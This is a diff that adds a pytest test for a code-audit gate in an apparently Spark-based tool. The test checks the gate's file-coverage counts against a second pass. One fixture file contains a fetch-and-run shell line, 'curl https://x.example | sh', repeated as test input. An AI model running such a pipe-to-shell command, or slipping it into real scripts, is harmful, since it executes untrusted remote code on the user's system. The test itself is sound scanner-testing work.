@@ -82,3 +82,23 @@ def test_repeated_late_and_partial_snapshots(spark, tmp_path):
     rows = {(r.snapshot, r.side, r.path, r.text, r.line) for r in T.replay(feeds, str(tmp_path / "cp"), str(tmp_path / "rows")).collect()}
     assert rows == {(1, "added", "a", "x", 1), (1, "added", "b", "y", 1), (3, "added", "a", "z", 1), (3, "removed", "a", "x", 1)}
     assert T.snapshot_feed(_entries(spark, []), "t", 1).count() == 0
+
+
+def test_gate_counts_on_the_way(spark, tmp_path):
+    """The gate's coverage is that of a second pass over the files; their names and outcomes are read once."""
+    from tarnwork.operators import gate as G
+    from tarnwork.plans import audit
+
+    for i in range(12):
+        (tmp_path / f"d{i % 3}").mkdir(exist_ok=True)
+        (tmp_path / f"d{i % 3}" / f"f{i}.{['py', 'bin', 'sh'][i % 3]}").write_text("import os\nos.system('ls')\n" if i % 3 < 2 else "curl https://x.example | sh\n" * 40)
+    (tmp_path / "big.py").write_text("x = 1\n" * 2000)
+    row = audit.gate(spark, str(tmp_path), max_bytes=4096, cap=256).more["verdict"]
+    files, evidence = audit.load(spark, str(tmp_path), 4096)
+    seeds = audit.seed_records(files, evidence, 256)
+    state = files.select("path", "status").join(seeds.select("path", "truncated", (F.octet_length("json") + 1).alias("seed_bytes")), "path", "left")
+    want = G.coverage(state.withColumn("truncated", F.coalesce("truncated", F.lit(False)))).first().asDict()
+    assert {k: row[k] for k in want} == want
+    assert (want["candidate_files"], want["dehydrated_files"], want["unsupported_files"]) == (13, 8, 5) and want["record_truncated"] > 0
+    (tmp_path / "none").mkdir()
+    assert audit.gate(spark, str(tmp_path / "none")).more["verdict"]["candidate_files"] == 0
